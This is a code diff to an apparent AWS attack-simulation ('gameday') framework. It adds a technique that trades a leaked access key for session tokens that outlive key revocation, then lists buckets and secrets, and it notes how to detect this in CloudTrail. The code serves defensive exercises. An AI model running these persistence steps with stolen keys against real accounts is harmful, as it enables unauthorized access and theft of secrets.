@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 from gameday.exercise.attacker.base import TECHNIQUES, AttackerContext, Resource, Technique
 from gameday.scenario.model import (
     BackdoorExistingUser,
@@ -9,6 +11,7 @@ from gameday.scenario.model import (
     BackdoorUser,
     LoginProfile,
     RoleSession,
+    UserSession,
 )
 from gameday.world.decoys import Credential
 
@@ -63,10 +66,14 @@ def _backdoor_role(ctx: AttackerContext, params: BackdoorRole) -> None:
     ctx.call("iam", "attach_role_policy", RoleName=params.role_name, PolicyArn=params.policy)
 
 
+ROLE_SESSION = "aws.persistence.sts-role-session"
+USER_SESSION = "aws.persistence.sts-get-session-token"
+
+
 def _role_session(ctx: AttackerContext, params: RoleSession) -> None:
     """Assume the role once; from then on, use the session while it works."""
     role_arn = f"arn:aws:iam::{ctx.account_id}:role/{params.role_name}"
-    if not any(c.session_token for c in ctx.live_credentials()):
+    if ROLE_SESSION not in ctx.sessions:
         ctx.call("iam", "list_roles")
         minted = ctx.call(
             "sts",
@@ -77,19 +84,34 @@ def _role_session(ctx: AttackerContext, params: RoleSession) -> None:
         )
         if minted is None:
             return
-        credentials = minted["Credentials"]
-        ctx.add_credential(
-            Credential(
-                credentials["AccessKeyId"],
-                credentials["SecretAccessKey"],
-                credentials["SessionToken"],
-            )
-        )
-        ctx.outcome.loot["session"] = {
-            "access_key_id": credentials["AccessKeyId"],
-            "role_arn": role_arn,
-        }
-    # The session at work: who am I now, and what can this role read.
+        _keep_session(ctx, ROLE_SESSION, minted["Credentials"], role_arn=role_arn)
+    _use_session(ctx)
+
+
+def _user_session(ctx: AttackerContext, params: UserSession) -> None:
+    """Trade the key for the user's own session once; from then on, use it while it works."""
+    if USER_SESSION not in ctx.sessions:
+        # A session cannot mint another: the long-term key asks (ctx.call moves on to it).
+        minted = ctx.call("sts", "get_session_token", DurationSeconds=params.duration)
+        if minted is None:
+            return
+        _keep_session(ctx, USER_SESSION, minted["Credentials"])
+    _use_session(ctx)
+
+
+def _keep_session(
+    ctx: AttackerContext, technique: str, credentials: dict[str, Any], **facts: str
+) -> None:
+    session = Credential(
+        credentials["AccessKeyId"], credentials["SecretAccessKey"], credentials["SessionToken"]
+    )
+    ctx.sessions[technique] = session
+    ctx.add_credential(session)
+    ctx.outcome.loot["session"] = {"access_key_id": session.access_key_id, **facts}
+
+
+def _use_session(ctx: AttackerContext) -> None:
+    # The session at work: who am I now, and what can I read.
     ctx.call("sts", "get_caller_identity")
     ctx.call("s3", "list_buckets")
     ctx.call("secretsmanager", "list_secrets")
@@ -155,5 +177,20 @@ TECHNIQUES.register(
         detection="AssumeRole by the leaked key in CloudTrail; calls with an ASIA key whose "
         "session issuer is that role after the leaked key stopped working.",
         detonate=_role_session,
+    )
+)
+TECHNIQUES.register(
+    Technique(
+        id="aws.persistence.sts-get-session-token",
+        tactic="persistence",
+        title="Trade the key for the user's own temporary credentials",
+        description="Calls GetSessionToken with the leaked key — before AWS's quarantine, "
+        "which denies it — and keeps using the user's temporary (ASIA…) credentials: they act "
+        "as the user and stay valid after the key is disabled or deleted, until they expire "
+        "(12 hours by default), the user is deleted, or the user denies sessions issued "
+        "before a given time (aws:TokenIssueTime).",
+        detection="GetSessionToken by the leaked key in CloudTrail; calls by the user with an "
+        "ASIA key after its long-term key stopped working.",
+        detonate=_user_session,
     )
 )
